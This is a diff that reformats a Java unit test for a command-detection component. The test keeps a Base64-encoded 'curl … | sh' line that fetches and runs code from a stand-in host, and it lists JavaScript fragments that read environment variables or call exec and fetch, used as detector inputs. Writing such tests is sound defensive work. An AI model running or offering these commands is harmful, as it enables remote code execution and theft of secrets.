@@ -12,7 +12,8 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class ProgramFileTest {
-    private static final String PIPED = Base64.getEncoder().encodeToString("curl https://a.example/p | sh".getBytes(UTF_8));
+    private static final String PIPED =
+            Base64.getEncoder().encodeToString("curl https://a.example/p | sh".getBytes(UTF_8));
 
     private static List<Kind> kinds(String program) {
         return CommandJudge.ofFile(program.replace("BLOB", PIPED), false).stream()
@@ -146,9 +147,27 @@ class ProgramFileTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "x=", "fetch(", "e=process.env;", "fetch(a=", "=>", "x=(", "x={", "exec(a+", "'", "exec('a'+", "exec(x",
-                "fetch(u).then(", "x=>exec(x", ".write(", "writefile(a,fetch(", "open('a',", "child_process.exec(", "İ",
-                "e=process.env,", "fetch(e)e=a;", "createwritestream(fetch(.pipe("
+                "x=",
+                "fetch(",
+                "e=process.env;",
+                "fetch(a=",
+                "=>",
+                "x=(",
+                "x={",
+                "exec(a+",
+                "'",
+                "exec('a'+",
+                "exec(x",
+                "fetch(u).then(",
+                "x=>exec(x",
+                ".write(",
+                "writefile(a,fetch(",
+                "open('a',",
+                "child_process.exec(",
+                "İ",
+                "e=process.env,",
+                "fetch(e)e=a;",
+                "createwritestream(fetch(.pipe("
             })
     void whateverIsSaidAgainAndAgainEnds(String part) {
         String text = part.repeat((64 << 10) / part.length());
